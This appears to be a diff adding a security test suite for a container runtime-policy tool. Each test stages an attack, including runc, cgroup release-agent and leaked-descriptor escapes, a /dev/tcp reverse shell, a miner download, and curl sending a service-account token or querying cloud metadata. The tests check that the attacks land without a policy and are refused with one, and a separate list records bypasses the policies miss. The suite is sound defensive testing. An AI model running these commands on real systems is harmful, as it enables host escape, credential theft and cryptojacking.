@@ -1,0 +1,547 @@
+// Attacks as they are known from real containers, each twice: without a policy it lands, which the host or the far end sees, and under
+// the ready policies it does not. docs/runtime-scenarios.md is the table of these tests.
+
+import { execFileSync } from 'node:child_process';
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
+import { type AddressInfo, createServer, type Server } from 'node:net';
+import { release } from 'node:os';
+import path from 'node:path';
+import type { PolicySet } from '@bailiff/runtime';
+import { waitFor } from '@bailiff/service/testing';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { LOAD_TIMEOUT_MS, Rig } from './harness/rig.ts';
+import { type Ended, linkedRuntime, operations, preload, readySet, readySetWithout, Stage } from './scenarios-rig.ts';
+
+const CORE_PATTERN = '/proc/sys/kernel/core_pattern';
+const MODPROBE = '/proc/sys/kernel/modprobe';
+const METADATA = '169.254.169.254';
+const POOL = '203.0.113.7';
+const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';
+const LOADER = process.arch === 'arm64' ? '/usr/lib/ld-linux-aarch64.so.1' : '/usr/lib64/ld-linux-x86-64.so.2';
+
+/** Whether it landed, as the host or the far end sees it; both may take their time. */
+type Landed = () => boolean;
+
+interface Scenario {
+  readonly name: string;
+  readonly policies: readonly string[];
+  readonly attack: (stage: Stage) => Promise<Landed>;
+  /** The rules that refused something on the way, sorted. */
+  readonly refusedBy: readonly string[];
+  /** The rule that refuses it where those that stand before it are not there. */
+  readonly behind?: string;
+}
+
+let rig: Rig;
+let stage: Stage;
+/** What reached the servers that play the far end. */
+const heard: string[] = [];
+const servers: (Server | HttpServer)[] = [];
+let webPort = 0;
+let shellPort = 0;
+
+async function listening<T extends Server | HttpServer>(server: T, where: object): Promise<T> {
+  servers.push(server);
+  server.listen(where);
+  await once(server, 'listening');
+  return server;
+}
+const portOf = (server: Server | HttpServer): number => (server.address() as AddressInfo).port;
+
+/** Remembers what it was sent, and offers a program to download. */
+const web = (name: string): HttpServer =>
+  createHttpServer((request, response) => {
+    let body = '';
+    request.on('data', (chunk) => {
+      body += chunk;
+    });
+    request.on('end', () => {
+      heard.push(`${name} ${request.method} ${request.url} ${body}`);
+      response.end(request.url === '/miner' ? readFileSync(operations()) : 'answer');
+    });
+  });
+
+/** Remembers all lines; says `greeting` first. */
+const plain = (name: string, greeting: string): Server =>
+  createServer((socket) => {
+    socket.on('data', (chunk) => heard.push(`${name} ${chunk}`));
+    socket.on('error', (error) => heard.push(`${name} ${error.message}`));
+    socket.write(greeting);
+  });
+
+const hears =
+  (text: string): Landed =>
+  () =>
+    heard.some((line) => line.includes(text));
+const succeeds =
+  ({ code }: Ended): Landed =>
+  () =>
+    code === 0;
+const says =
+  (text: string, { lines }: Ended): Landed =>
+  () =>
+    lines.includes(text);
+const isOwned =
+  (file: string): Landed =>
+  () =>
+    readFileSync(file).subarray(0, 5).toString() === 'owned';
+
+/** A script that the host would run, where the host finds it; the script that goes on has its path in $agent. */
+const AGENT = (stage: Stage): string =>
+  `set -e; printf '#!/bin/sh\\necho owned > ${stage.host}/proof\\n' > /agent; chmod +x /agent; agent=${stage.upper('agent')}\n`;
+/** What the host would not have by itself. */
+async function proven(stage: Stage, ended: Promise<Ended>): Promise<Landed> {
+  await ended;
+  return () => existsSync(path.join(stage.host, 'proof'));
+}
+let hierarchies = 0;
+const releaseAgent = (stage: Stage, dir: string): string => `${AGENT(stage)}
+  mkdir ${dir}/x
+  echo 1 > ${dir}/x/notify_on_release
+  echo $agent > ${dir}/release_agent
+  dash -c 'echo $$ > ${dir}/x/cgroup.procs'`;
+/** What a privileged pod is given of cgroup v1, which this node has beside v2. */
+function giveHierarchy(stage: Stage): string {
+  const name = `given-${hierarchies++}`;
+  stage.mount('mnt', '-t', 'cgroup', '-o', `none,name=${name}`, 'cgroup');
+  return name;
+}
+
+/** A runtime of the host that the container could overwrite, and an image that makes it run itself. */
+function hostileImage(stage: Stage): string {
+  const runtime = path.join(stage.host, 'runtime');
+  copyFileSync(linkedRuntime(), runtime);
+  copyFileSync(preload(), path.join(stage.root, 'tmp/evil.so'));
+  writeFileSync(path.join(stage.root, 'etc/ld.so.preload'), '/tmp/evil.so\n');
+  return runtime;
+}
+
+function innerFolder(stage: Stage): string {
+  const inner = path.join(stage.host, 'inner');
+  mkdirSync(inner, { recursive: true });
+  return inner;
+}
+
+async function dropped(stage: Stage, name: string, port = 3333): Promise<Landed> {
+  await stage.sh(
+    `set -e; curl -sfo /tmp/${name} http://127.0.0.1:${webPort}/miner; chmod +x /tmp/${name}; /tmp/${name} pool ${POOL} ${port}`,
+  );
+  return hears('pool {"method":"mining.subscribe"}');
+}
+
+function withToken(stage: Stage): void {
+  mkdirSync(path.join(stage.root, path.dirname(TOKEN)), { recursive: true });
+  stage.mount(path.dirname(TOKEN), '-t', 'tmpfs', 'token');
+  writeFileSync(path.join(stage.root, TOKEN), 'eyJhbGciOi');
+}
+
+/** Without a shell to start from. */
+const COPY_SHELL = ['/usr/bin/acts', 'run', '/usr/bin/cp', '/usr/bin/bash', '/tmp/sh-x', ','];
+/** Does what the far end says. */
+const SHELL = (): string => `exec 3<>/dev/tcp/127.0.0.1/${shellPort}; read c <&3; $c >&3; read c <&3`;
+
+/** What each of the escape guard's is about. */
+const escaping = (
+  name: string,
+  attack: Scenario['attack'],
+  refusedBy: string | readonly string[],
+  behind?: string,
+): Scenario => ({
+  ...{ name, attack, policies: ['escape-guard'], refusedBy: [refusedBy].flat() },
+  ...(behind === undefined ? {} : { behind }),
+});
+
+const ESCAPES: readonly Scenario[] = [
+  escaping(
+    'CVE-2019-5736, entry point /proc/self/exe',
+    async (stage) => {
+      const runtime = hostileImage(stage);
+      await stage.run(['/proc/self/exe'], { runtime });
+      return isOwned(runtime);
+    },
+    'host-binaries',
+  ),
+  escaping(
+    'CVE-2019-5736, /proc/<pid>/exe of the runtime that enters',
+    async (stage) => {
+      const runtime = hostileImage(stage);
+      const mate = stage.start(['/usr/bin/scenario-ops', 'catch', '/tmp/held', '/tmp/go']);
+      await mate.line('ready');
+      stage.start(['/proc/self/exe'], { runtime, env: { HOLD: '1' } });
+      await mate.exit();
+      return isOwned(runtime);
+    },
+    'host-binaries',
+  ),
+  escaping(
+    'CVE-2022-0492, cgroup v1 mounted and its release agent set',
+    (stage) => {
+      const mount = `mkdir -p /tmp/c; mount -t cgroup -o none,name=own-${hierarchies++} cgroup /tmp/c`;
+      return proven(stage, stage.sh(`set -e; ${mount}; ${releaseAgent(stage, '/tmp/c')}`));
+    },
+    'namespaces',
+    'mounts',
+  ),
+  escaping(
+    'CVE-2022-0492, release agent of a hierarchy that the pod was given',
+    (stage) => {
+      giveHierarchy(stage);
+      return proven(stage, stage.sh(releaseAgent(stage, '/mnt')));
+    },
+    'release-agent',
+  ),
+  escaping(
+    'CVE-2022-0492, to a cgroup mount by a user namespace',
+    async (stage) =>
+      succeeds(await stage.sh(`unshare -UrmC mount -t cgroup -o none,name=${giveHierarchy(stage)} cgroup /mnt`)),
+    'user-namespaces',
+  ),
+  escaping(
+    'CVE-2024-21626, leaked descriptor of a folder of the host',
+    (stage) => proven(stage, stage.sh('cd /proc/self/fd/9; echo owned > ../proof', { leaked: innerFolder(stage) })),
+    'host-binaries',
+  ),
+  escaping(
+    'CVE-2024-21626, working directory on the host',
+    (stage) => {
+      const options = { leaked: innerFolder(stage), env: { WORKDIR: '/proc/self/fd/9' } };
+      return proven(stage, stage.sh('echo owned > ../proof', options));
+    },
+    'host-binaries',
+  ),
+  escaping(
+    'docker.sock mounted',
+    async (stage) => {
+      const request = '-d \'{"Privileged":true}\' http://docker/containers/create';
+      await stage.sh(`curl -s --unix-socket ${stage.share('/run/docker.sock')} ${request}`);
+      return hears('docker POST /containers/create {"Privileged":true}');
+    },
+    'runtime-sockets',
+  ),
+  escaping(
+    'nsenter by hostPID',
+    (stage) => proven(stage, stage.sh(`nsenter -t 1 -m -- dash -c 'echo owned > ${stage.host}/proof'`)),
+    'other-tasks',
+  ),
+  escaping(
+    '/proc/1/root by hostPID',
+    (stage) => proven(stage, stage.sh(`echo owned > /proc/1/root${stage.host}/proof`)),
+    'other-tasks',
+  ),
+  escaping(
+    'core_pattern',
+    (stage) => {
+      const crash = "dash -c 'kill -SEGV $$' || true";
+      return proven(stage, stage.sh(`${AGENT(stage)} echo "|$agent" > ${CORE_PATTERN}; ${crash}`));
+    },
+    'core-pattern',
+  ),
+  escaping(
+    'path of the kernel’s modprobe',
+    async (stage) => {
+      await stage.sh(`${AGENT(stage)} echo $agent > ${MODPROBE}`);
+      return () => readFileSync(MODPROBE, 'utf8').trim() === stage.upper('agent');
+    },
+    'kernel-helpers',
+  ),
+  escaping('sysrq', async (stage) => succeeds(await stage.sh('echo h > /proc/sysrq-trigger')), 'sysrq'),
+  escaping(
+    'module load',
+    async (stage) => {
+      const module = `/usr/lib/modules/${release()}/kernel/drivers/net/nlmon.ko.xz`;
+      copyFileSync(module, path.join(stage.root, 'tmp/nlmon.ko.xz'));
+      await stage.sh('insmod /tmp/nlmon.ko.xz');
+      return () => existsSync('/sys/module/nlmon');
+    },
+    'host-capabilities',
+    'modules',
+  ),
+  escaping('BPF load', async (stage) => says('landed', await stage.ops('bpf')), 'bpf'),
+  escaping(
+    'device node of the host',
+    async (stage) => succeeds(await stage.sh('rm -f /tmp/mem; mknod /tmp/mem c 1 1')),
+    'device-nodes',
+  ),
+  escaping(
+    'new mount API, a fresh proc that is mounted nowhere',
+    async (stage) => {
+      await stage.ops('fsopen', 'sys/kernel/core_pattern', 'owned');
+      return isOwned(CORE_PATTERN);
+    },
+    'namespaces',
+    'mounts',
+  ),
+  escaping(
+    'new mount API, beneath the read-only /proc/sys of runc',
+    async (stage) => {
+      const words = ['clone', '/proc', 'sys/kernel/core_pattern', 'owned'];
+      await stage.runc(['/usr/bin/scenario-ops', ...words], ['CAP_SYS_ADMIN']).run();
+      return isOwned(CORE_PATTERN);
+    },
+    'namespaces',
+    'mounts',
+  ),
+  escaping(
+    'new mount API, a clone attached elsewhere',
+    async (stage) => says('landed', await stage.ops('attach', '/', '/mnt')),
+    'namespaces',
+    'mounts',
+  ),
+];
+
+const PROGRAMS: readonly Scenario[] = [
+  {
+    name: 'miner dropped and run',
+    policies: ['immutable-image'],
+    attack: (stage) => dropped(stage, 'kworker'),
+    refusedBy: ['drift'],
+  },
+  {
+    name: 'miner under another name',
+    policies: ['no-crypto-miners'],
+    attack: (stage) => dropped(stage, 'kworker'),
+    refusedBy: ['pool-ports'],
+  },
+  {
+    name: 'miner under its own name',
+    policies: ['no-crypto-miners'],
+    attack: (stage) => dropped(stage, 'xmrig'),
+    refusedBy: ['miner-programs'],
+  },
+  {
+    name: 'fileless, memfd',
+    policies: ['no-fileless-exec'],
+    attack: async (stage) => says('landed', await stage.ops('memfd', '/usr/bin/scenario-ops', 'quick')),
+    refusedBy: ['memory'],
+  },
+  {
+    name: 'fileless, a library from memfd',
+    policies: ['no-fileless-exec'],
+    attack: async (stage) => says('landed', await stage.ops('mapped', '/usr/bin/scenario-ops')),
+    refusedBy: ['memory'],
+  },
+  {
+    name: 'fileless, a file without a name on /dev/shm',
+    policies: ['no-fileless-exec'],
+    attack: async (stage) => says('landed', await stage.ops('tmpfile', '/usr/bin/scenario-ops')),
+    refusedBy: ['shared-memory'],
+  },
+  {
+    name: 'fileless, /dev/shm by the loader',
+    policies: ['no-fileless-exec'],
+    attack: async (stage) => succeeds(await stage.sh(`cp /usr/bin/true /dev/shm/x && ${LOADER} /dev/shm/x`)),
+    refusedBy: ['shared-memory'],
+  },
+  {
+    name: 'reverse shell',
+    policies: ['no-shell'],
+    async attack(stage) {
+      await stage.run(['/usr/bin/acts', 'run', '/usr/bin/bash', '-c', SHELL()]);
+      return hears('shell uid=0(root)');
+    },
+    refusedBy: ['shell'],
+  },
+  {
+    name: 'reverse shell of a copied bash',
+    policies: ['no-shell', 'immutable-image'],
+    async attack(stage) {
+      await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
+      return hears('shell uid=0(root)');
+    },
+    refusedBy: ['drift'],
+  },
+  {
+    name: 'service-account token sent away by curl',
+    policies: ['service-account-token-guard'],
+    async attack(stage) {
+      withToken(stage);
+      await stage.sh(`curl -s -d @/var${TOKEN} http://127.0.0.1:${webPort}/token`);
+      return hears('web POST /token eyJhbGciOi');
+    },
+    refusedBy: ['token-by-shell'],
+  },
+  {
+    name: 'metadata endpoint',
+    policies: ['metadata-guard'],
+    async attack(stage) {
+      await stage.sh(`curl -s http://${METADATA}/latest/meta-data/iam/security-credentials/`);
+      return hears('metadata GET /latest/meta-data/iam/security-credentials/');
+    },
+    refusedBy: ['metadata'],
+  },
+  {
+    name: 'CVE-2026-31431, AF_ALG',
+    policies: ['af-alg'],
+    attack: async (stage) => says('landed', await stage.ops('alg')),
+    refusedBy: ['alg-socket'],
+  },
+];
+
+/** What the ready policies do not hold, by name. Each lands, and nothing is counted. */
+const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
+  {
+    name: 'a file of the host that was open when the runtime leaked it',
+    policies: ['escape-guard'],
+    attack: async (stage) => {
+      const file = path.join(stage.host, 'file');
+      writeFileSync(file, '');
+      await stage.sh('echo owned >&9', { leaked: file });
+      return isOwned(file);
+    },
+  },
+  {
+    name: 'an engine that listens at a path of its own',
+    policies: ['escape-guard'],
+    async attack(stage) {
+      await stage.sh(`curl -s --unix-socket ${stage.share('/run/engine')} -d x http://engine/containers/create`);
+      return hears('engine POST /containers/create x');
+    },
+  },
+  {
+    name: 'a downloaded script for an interpreter of the image',
+    policies: ['immutable-image'],
+    attack: async (stage) =>
+      says('owned', await stage.sh('echo \'print "owned\\n"\' > /tmp/x; chmod +x /tmp/x; perl /tmp/x')),
+  },
+  {
+    name: 'a shell under another name',
+    policies: ['no-shell'],
+    async attack(stage) {
+      await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
+      return hears('shell uid=0(root)');
+    },
+  },
+  {
+    name: 'a miner under another name, to a pool on port 443',
+    policies: ['no-crypto-miners'],
+    attack: (stage) => dropped(stage, 'kworker', 443),
+  },
+  {
+    name: 'the token, read by the pod’s own program',
+    policies: ['service-account-token-guard'],
+    async attack(stage) {
+      withToken(stage);
+      return says('eyJhbGciOi', await stage.run(['/usr/bin/perl', '-pe', '$_ .= "\n"', TOKEN]));
+    },
+  },
+  {
+    name: 'code written into anonymous memory',
+    policies: ['no-fileless-exec', 'immutable-image'],
+    attack: async (stage) => says('map-anonymous memory: ok', await stage.run(['/usr/bin/acts', 'map-anonymous'])),
+  },
+];
+
+beforeAll(async () => {
+  rig = new Rig();
+  stage = new Stage(rig);
+  for (const compiled of [operations, linkedRuntime, preload]) compiled();
+  execFileSync('ip', ['link', 'add', 'far0', 'type', 'dummy']);
+  for (const address of [METADATA, POOL]) execFileSync('ip', ['addr', 'add', `${address}/32`, 'dev', 'far0']);
+  execFileSync('ip', ['link', 'set', 'far0', 'up']);
+  webPort = portOf(await listening(web('web'), { host: '127.0.0.1', port: 0 }));
+  shellPort = portOf(await listening(plain('shell', 'id\nexit\n'), { host: '127.0.0.1', port: 0 }));
+  await listening(web('metadata'), { host: METADATA, port: 80 });
+  for (const port of [443, 3333]) await listening(plain('pool', ''), { host: POOL, port });
+  await listening(web('engine'), { path: '/run/engine' });
+  await listening(web('docker'), { path: '/run/docker.sock' });
+}, LOAD_TIMEOUT_MS);
+
+afterAll(() => {
+  for (const server of servers) server.close();
+  execFileSync('ip', ['link', 'del', 'far0']);
+  stage?.[Symbol.dispose]();
+  rig?.[Symbol.dispose]();
+});
+
+/** What an attack changes of the machine or of the container, as it was. */
+const before = [CORE_PATTERN, MODPROBE].map((file) => [file, readFileSync(file, 'utf8')] as const);
+function restore(): void {
+  for (const [file, text] of before) writeFileSync(file, text);
+  if (existsSync('/sys/module/nlmon')) execFileSync('rmmod', ['nlmon']);
+  for (const file of ['etc/ld.so.preload', 'tmp/held', 'tmp/go']) rmSync(path.join(stage.root, file), { force: true });
+  rmSync(path.join(stage.host, 'proof'), { force: true });
+  heard.length = 0;
+}
+afterEach(restore);
+
+/** Runs it under a set, or none; whether it landed, and the rules that refused something. */
+async function played(attack: Scenario['attack'], set: PolicySet | null): Promise<[boolean, string[]]> {
+  if (set === null) rig.object.maps.pods.delete(stage.pod.uid);
+  else stage.pod.put(set);
+  const landed = await attack(stage);
+  if (set === null) await waitFor(landed, { what: 'the attack to land', state: () => [heard, stage.lastLines()] });
+  const outcome: [boolean, string[]] = [landed(), set === null ? [] : Object.keys(stage.pod.counts()).sort()];
+  restore();
+  return outcome;
+}
+
+describe.each([
+  ['escapes', ESCAPES],
+  ['programs and secrets', PROGRAMS],
+])('%s', (_, scenarios) => {
+  it.each(scenarios.map((scenario) => [scenario.name, scenario] as const))(
+    '%s - lands without a policy and not with the ready one',
+    async (_name, { attack, policies, refusedBy, behind }) => {
+      expect(await played(attack, null)).toEqual([true, []]);
+      expect(await played(attack, readySet(...policies))).toEqual([false, [...refusedBy]]);
+      if (behind === undefined) return;
+      const rest = readySetWithout(refusedBy, ...policies);
+      expect(await played(attack, rest)).toEqual([false, [behind]]);
+    },
+  );
+});
+
+describe('what slips by', () => {
+  it.each(SLIPS.map((scenario) => [scenario.name, scenario] as const))('%s', async (_name, scenario) => {
+    stage.pod.put(readySet(...scenario.policies));
+    const landed = await scenario.attack(stage);
+    await waitFor(landed, { what: 'the attack to land', state: () => [heard, stage.lastLines()] });
+    expect(stage.pod.counts()).toEqual({});
+  });
+});
+
+describe('raw sockets', () => {
+  const FORGED = '198.51.100.9';
+  const maker = (lines: readonly string[]) => {
+    const [pid, cookie = ''] = (lines[0] ?? '').split(' ');
+    return { tgid: Number(pid), maker: rig.object.maps.socketMaker(BigInt(cookie)) };
+  };
+  const known = { program: '/usr/bin/scenario-ops', comm: 'scenario-ops', uid: 0, type: 3 };
+
+  it('spoofing - lands without a policy and its maker is known by the cookie; with the ready one there is no socket', async () => {
+    const socket = createSocket('udp4');
+    const from: string[] = [];
+    socket.on('message', (_text, { address }) => from.push(address));
+    socket.bind(0, '127.0.0.1');
+    await once(socket, 'listening');
+    const forge = () => stage.ops('forge', FORGED, '127.0.0.1', `${socket.address().port}`);
+    rig.object.maps.pods.delete(stage.pod.uid);
+    const { lines } = await forge();
+    await waitFor(() => from.length > 0, { what: 'the forged packet', state: () => lines });
+    expect(from).toEqual([FORGED]);
+    const { tgid, maker: found } = maker(lines);
+    expect(found).toMatchObject({ ...known, tgid, pod: stage.pod.uid, family: 2, protocol: 255 });
+    stage.pod.put(readySet('no-raw-sockets'));
+    expect((await forge()).lines).toEqual(['socket: EPERM']);
+    expect(stage.pod.counts()).toEqual({ raw: 1 });
+    expect(from).toEqual([FORGED]);
+    socket.close();
+  });
+
+  it('frames - the same of a packet socket', async () => {
+    const sent = () => Number(readFileSync('/sys/class/net/far0/statistics/tx_packets', 'utf8'));
+    const frame = () => stage.ops('frame', 'far0');
+    rig.object.maps.pods.delete(stage.pod.uid);
+    const earlier = sent();
+    const { lines } = await frame();
+    expect([lines[1], sent() > earlier]).toEqual(['landed', true]);
+    const { tgid, maker: found } = maker(lines);
+    expect(found).toMatchObject({ ...known, tgid, pod: stage.pod.uid, family: 17, protocol: 3 });
+    stage.pod.put(readySet('no-raw-sockets'));
+    expect((await frame()).lines).toEqual(['socket: EPERM']);
+    expect(stage.pod.counts()).toEqual({ packet: 1 });
+  });
+});
